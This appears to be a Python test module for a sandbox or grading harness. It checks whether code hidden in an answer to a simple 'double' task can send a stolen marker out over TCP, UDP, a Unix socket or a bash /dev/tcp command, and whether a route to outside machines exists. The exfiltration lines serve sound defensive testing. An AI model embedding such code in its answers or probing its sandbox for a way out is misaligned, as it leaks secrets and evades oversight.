"""Ways out for what was stolen: the network."""

from __future__ import annotations

from typing import Any

from harness import Case

_STUB = "\ndef double(x): return 0"


def _case(name: str, code: str, **more: Any) -> Case:
    text = f"import socket\ntry:\n{code}\nexcept OSError:\n    pass{_STUB}"
    return Case(name, "secrets", answers={"double": text}, **more)


CASES = [
    _case("sends over TCP", "    socket.create_connection(('127.0.0.1', @PORT@), timeout=1).sendall(b'@CASE@')"),
    _case(
        "sends over UDP",
        "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'@CASE@', ('127.0.0.1', @PORT@))",
    ),
    _case(
        "sends to an abstract socket",
        "    s = socket.socket(socket.AF_UNIX)\n    s.connect('\\0@NAME@')\n    s.sendall(b'@CASE@')",
    ),
    _case(
        "sends with a program",
        "    import subprocess\n"
        "    subprocess.run(['bash', '-c', 'echo @CASE@ > /dev/tcp/127.0.0.1/@PORT@'], timeout=1, check=False,\n"
        "                   stderr=subprocess.DEVNULL)",
    ),
    Case(
        "looks for a way to other machines",
        "secrets",
        answers={
            "double": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "try:\n    s.connect(('192.0.2.1', 9))\n    print('ROUTE', s.getsockname())\nexcept OSError:\n    pass"
            + _STUB
        },
        achieved=lambda bench, result: "there is a route outwards" if "ROUTE (" in bench._told(result) else "",
    ),
]
